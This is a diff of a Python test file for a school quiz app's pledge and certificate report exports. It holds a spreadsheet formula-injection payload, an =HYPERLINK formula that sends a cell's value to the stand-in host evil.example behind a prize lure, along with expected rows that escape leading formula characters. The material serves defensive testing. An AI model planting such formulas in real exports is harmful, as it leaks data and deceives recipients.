@@ -9,7 +9,9 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from tests.helpers import make_group
+from tests.helpers import csrf_token, make_group
+from tests.records.builders import finished
+from tests.records.builders import row as read_row
 from tests.reports.builders import add_rows, at, make_user, play, play_as_staff, sign_in, update
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我领奖")'
@@ -93,11 +95,34 @@ def test_pledge_list_csv(app, client, school):
     assert rows == [
         ["签名（昵称）", "签署时间（北京时间）", "签名方式", "签署人身份"],
         ["'-1+1", "2024-03-01 10:40", "输入姓名", "本人"],  # 02:40 UTC is 10:40 in Beijing
-        ["", "2024-03-02 00:05", "手写签名", "本人"],  # 16:05 UTC is past midnight in Beijing
+        ["'+小红（手写签名）", "2024-03-02 00:05", "手写签名", "本人"],  # 16:05 UTC is past midnight in Beijing
     ]
     response = client.get(f"/reports/groups/{school['group_id']}/pledges.csv")
     assert "attachment" in response.headers["Content-Disposition"]
     assert "filename*=UTF-8''" in response.headers["Content-Disposition"]
+
+
+def test_a_drawn_signature_alone_is_listed_under_the_signers_nickname(app, client):
+    from app.groups.models import Pledge
+    from app.timezones import to_local
+
+    made = make_group(app, name="初二（1）班")
+    attempt_id, _ = finished(app, client, made["quiz_id"], "小刚", made["join_code"])
+    page = client.get(f"/a/{attempt_id}/pledge")
+    signed = client.post(f"/a/{attempt_id}/pledge",
+                         data={"csrf_token": csrf_token(page.text), "signer": "", "signature": "M 1 1 L 50 50"})
+    assert signed.status_code == 303
+    pledge = read_row(app, Pledge, Pledge.attempt_id == attempt_id)
+    assert pledge.signer == "" and pledge.signature_svg_path  # drawn only: no typed name stored
+    teacher = make_user(app, "teacher")
+    update(app, "Group", made["group_id"], teacher_id=teacher.id)
+    staff = app.test_client()
+    sign_in(staff, teacher)
+    rows = _csv(staff.get(f"/reports/groups/{made['group_id']}/pledges.csv"))
+    with app.app_context():
+        when = to_local(pledge.signed_at).strftime("%Y-%m-%d %H:%M")
+    assert rows == [["签名（昵称）", "签署时间（北京时间）", "签名方式", "签署人身份"],
+                    ["小刚（手写签名）", when, "手写签名", "本人"]]
 
 
 def test_certificates_sheet_lists_every_certificate(app, client, school):
